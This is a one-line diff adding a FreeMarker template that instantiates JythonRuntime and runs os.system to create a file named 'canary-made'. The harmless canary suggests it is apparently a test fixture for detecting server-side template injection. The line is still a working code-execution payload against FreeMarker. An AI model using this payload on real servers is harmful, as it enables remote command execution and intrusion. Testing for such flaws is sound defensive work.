@@ -1,0 +1,1 @@
+<#assign python="freemarker.template.utility.JythonRuntime"?new()><@python>import os; os.system("touch canary-made")</@python>
